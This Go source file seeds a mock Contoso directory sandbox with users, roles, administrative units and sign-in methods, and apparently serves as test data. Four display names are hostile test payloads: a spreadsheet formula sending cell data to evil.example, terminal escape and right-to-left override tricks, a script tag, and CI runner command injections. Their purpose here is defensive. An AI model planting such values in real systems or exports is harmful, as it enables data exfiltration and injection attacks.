package sandbox

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"time"
)

// domain is Contoso's verified domain.
const domain = "contoso.com"

// seedTime is when Contoso began; everything in the seed is dated from it.
var seedTime = time.Date(2024, 1, 15, 8, 0, 0, 0, time.UTC)

// Names in the seed that other things than people read: a spreadsheet, a terminal, a browser, a CI runner.
const (
	formulaName  = `=HYPERLINK("http://evil.example/?x="&A1,"Click me")`
	terminalName = "Eve \x1b[31mRed\x1b[0m \u202etxt.exe\u202c \u200bZero"
	markupName   = `<script>alert("contoso")</script>`
	runnerName   = "::set-output name=passcode::x ##vso[task.setvariable variable=x]y"
)

// person is a row of the seed; the user principal name is the first column at contoso.com.
type person struct {
	alias, name, job, department, office, manager, language string
}

var people = []person{
	{"mod.admin", "MOD Administrator", "", "", "", "", "en-US"},
	{"miriam.graham", "Miriam Graham", "VP Marketing", "Marketing", "Berlin", "", "de-DE"},
	{"adele.vance", "Adele Vance", "Retail Manager", "Retail", "Helsinki", "miriam.graham", "en-US"},
	{"alex.wilber", "Alex Wilber", "Marketing Assistant", "Marketing", "Berlin", "miriam.graham", "de-DE"},
	{"megan.bowen", "Megan Bowen", "Auditor", "Finance", "London", "miriam.graham", "en-GB"},
	{"diego.siciliani", "Diego Siciliani", "HR Manager", "HR", "Milano", "megan.bowen", "it-IT"},
	{"christie.cline", "Christie Cline", "Buyer", "Retail", "Helsinki", "adele.vance", "en-US"},
	{"joni.sherman", "Joni Sherman", "Paralegal", "Legal", "London", "", "en-GB"},
	{"nestor.wilke", "Nestor Wilke", "Director", "Operations", "Helsinki", "adele.vance", "fi-FI"},
	{"henrietta.mueller", "Henrietta Mueller", "Developer", "Engineering", "Berlin", "diego.siciliani", "de-DE"},
	{"pradeep.gupta", "Pradeep Gupta", "Accountant", "Finance", "London", "megan.bowen", "en-GB"},
	{"isaiah.langer", "Isaiah Langer", "Helpdesk Agent", "IT", "Helsinki", "irvin.sayers", "en-US"},
	{"lidia.holloway", "Lidia Holloway", "Identity Engineer", "IT", "Helsinki", "irvin.sayers", "en-US"},
	{"lynne.robbins", "Lynne Robbins", "Security Analyst", "IT", "London", "irvin.sayers", "en-GB"},
	{"johanna.lorenz", "Johanna Lorenz", "Service Desk Trainee", "IT", "Berlin", "isaiah.langer", "de-DE"},
	{"patti.fernandez", "Patti Fernandez", "Helpdesk Agent", "IT", "Madrid", "irvin.sayers", "es-ES"},
	{"grady.archie", "Grady Archie", "Helpdesk Agent", "IT", "London", "irvin.sayers", "en-GB"},
	{"irvin.sayers", "Irvin Sayers", "IT Director", "IT", "Helsinki", "", "en-US"},
	{"allan.deyoung", "Allan Deyoung", "Infrastructure Lead", "IT", "Berlin", "irvin.sayers", "de-DE"},
	{"lee.gu", "Lee Gu", "Director", "Manufacturing", "London", "miriam.graham", "en-GB"},
	{"internal.guest", "Ingrid Guest", "Contractor", "Operations", "Helsinki", "nestor.wilke", "sv-SE"},
	{"maria_fabrikam.com#EXT#", "Maria Fabrikam", "", "", "", "", ""},
	{"long.name", strings.Repeat("Wolfeschlegelsteinhausen ", 10) + "Berger", "Archivist", "Legal", "Berlin", "joni.sherman", "de-DE"},
	{"yamada.taro", "山田 太郎", "エンジニア", "Engineering", "東京", "henrietta.mueller", "ja-JP"},
	{"party.parrot", "Polly 🦜 Parrot 👩‍🚀", "Social Media", "Marketing", "Berlin", "alex.wilber", "en-US"},
	{"fatima.alzahra", "فاطمة الزهراء", "مهندسة", "Engineering", "Dubai", "henrietta.mueller", "ar-AE"},
	{"sofia.papa", "Σοφία Παπαδοπούλου", "Αναλύτρια", "Finance", "Athens", "megan.bowen", "el-GR"},
	{"ivan.petrov", "Иван Петров", "Разработчик", "Engineering", "Sofia", "henrietta.mueller", "bg-BG"},
	{"formula.one", formulaName, "=1+1", "Finance", "@SUM(A1)", "megan.bowen", "en-US"},
	{"terminal.escape", terminalName, "", "IT", "", "irvin.sayers", "en-US"},
	{"markup.script", markupName, "", "Marketing", "", "alex.wilber", "en-US"},
	{"runner.command", runnerName, "", "Engineering", "", "henrietta.mueller", "en-US"},
	{"miles.o'brien", "Miles O'Brien", "Technician", "Operations", "Dublin", "nestor.wilke", "en-IE"},
}

// disabled are the accounts that are not enabled: new hires before day one.
var disabled = map[string]bool{"nestor.wilke": true, "henrietta.mueller": true, "pradeep.gupta": true}

// seedRoles are the directory roles that people hold. The helpdesk reads policy and logs as a Global Reader: an
// Authentication Administrator may read neither (graph.md section 4).
var seedRoles = map[string][]string{
	"mod.admin@contoso.com":       {"Global Administrator"},
	"isaiah.langer@contoso.com":   {"Authentication Administrator", "Global Reader"},
	"lidia.holloway@contoso.com":  {"Privileged Authentication Administrator", "Authentication Policy Administrator"},
	"lynne.robbins@contoso.com":   {"Global Reader"},
	"patti.fernandez@contoso.com": {"Authentication Administrator"},
	"grady.archie@contoso.com":    {"Authentication Administrator"},
	"irvin.sayers@contoso.com":    {"Authentication Policy Administrator"},
}

// seedScoped are the roles that reach one administrative unit: the HR manager serves the office himself.
func seedScoped() []*assignment {
	return []*assignment{{userID("diego.siciliani@" + domain), roleNamed("Authentication Administrator"), unitID("Milano Office")}}
}

// seedEligible are the roles that their holders have to activate first (PIM).
func seedEligible() []*assignment {
	return []*assignment{{userID("irvin.sayers@" + domain), roleNamed("Authentication Administrator"), ""}}
}

func seedUnits() []*unit {
	return []*unit{
		{unitID("Milano Office"), "Milano Office", false, []string{userID("joni.sherman@" + domain)}},
		{unitID("Executives"), "Executives", true, []string{userID("lee.gu@" + domain)}},
	}
}

func unitID(name string) string  { return named("unit", name) }
func userID(upn string) string   { return named("user", upn) }
func groupID(name string) string { return named("group", name) }

func seedUsers() []*user {
	users := make([]*user, len(people))
	for i, p := range people {
		users[i] = p.user(i)
	}
	return users
}

func (p person) user(i int) *user {
	upn := p.alias + "@" + domain
	given, surname, _ := strings.Cut(p.name, " ")
	u := &user{
		ID: userID(upn), UserPrincipalName: upn, DisplayName: p.name, GivenName: given, Surname: surname,
		Mail: upn, AccountEnabled: !disabled[p.alias], UserType: "Member",
		JobTitle: p.job, Department: p.department, OfficeLocation: p.office, BusinessPhones: []string{},
		EmployeeID: fmt.Sprint(1001 + i), PreferredLanguage: p.language, CreatedDateTime: seedTime.AddDate(0, 0, i),
		Identities: []identity{{"userPrincipalName", "contoso.onmicrosoft.com", upn}},
	}
	if p.manager != "" {
		u.ManagerID = userID(p.manager + "@" + domain)
	}
	if p.department != "" {
		u.BusinessPhones = []string{fmt.Sprintf("+358 9 555 %04d", 100+i)}
		u.MobilePhone = fmt.Sprintf("+358 40 555 %04d", 100+i)
	}
	switch p.alias {
	case "internal.guest":
		u.UserType = "Guest"
	case "maria_fabrikam.com#EXT#":
		u.UserType, u.CreationType, u.ExternalUserState = "Guest", "Invitation", "Accepted"
		u.Mail, u.EmployeeID = "maria@fabrikam.com", ""
		u.Identities = append(u.Identities, identity{"federated", "ExternalAzureAD", ""})
	case "alex.wilber":
		u.methods = []method{seedMethod(u, "microsoftAuthenticator", "Alex's phone"), seedMethod(u, "phone", "")}
	case "megan.bowen":
		u.methods = []method{seedMethod(u, "fido2", "YubiKey 5")}
	}
	return u
}

func seedMethod(u *user, kind, name string) method {
	m := method{ID: named("method", u.ID+kind), Type: kind, DisplayName: name, CreatedDateTime: u.CreatedDateTime.AddDate(0, 0, 1)}
	switch kind {
	case "phone":
		m.ID, m.PhoneNumber = sharedIDs[kind], u.MobilePhone
	case "fido2":
		m.ID = passkeyID(m.ID)
	}
	return m
}

// generatedUsers are as many further users as asked, the same for the same seed; one in ten is disabled.
func generatedUsers(p population, named []*user) []*user {
	r := rand.New(rand.NewPCG(uint64(p.Seed), uint64(len(named))))
	users := make([]*user, p.Users)
	for i := range users {
		given, surname := givenNames[r.IntN(len(givenNames))], surnames[r.IntN(len(surnames))]
		alias := fmt.Sprintf("%s.%s.%05d", strings.ToLower(given), strings.ToLower(surname), i+1)
		like := person{alias: alias, name: given + " " + surname, job: "Associate",
			department: departments[r.IntN(len(departments))], office: "Helsinki", manager: people[1+r.IntN(5)].alias, language: "en-US"}
		users[i] = like.user(len(named) + i)
		users[i].CreatedDateTime = seedTime
		users[i].AccountEnabled = r.IntN(10) > 0
	}
	return users
}

var (
	givenNames  = []string{"Aino", "Bram", "Chiara", "Dmitri", "Elif", "Farah", "Goran", "Hana", "Ines", "Jakub", "Kofi", "Lena", "Mateo", "Noor", "Olga", "Pavel"}
	surnames    = []string{"Aalto", "Bianchi", "Costa", "Dubois", "Eriksson", "Fischer", "Garcia", "Horvat", "Ito", "Jansen", "Kowalski", "Larsen", "Meyer", "Novak"}
	departments = []string{"Retail", "Marketing", "Finance", "Engineering", "Operations", "Legal"}
)
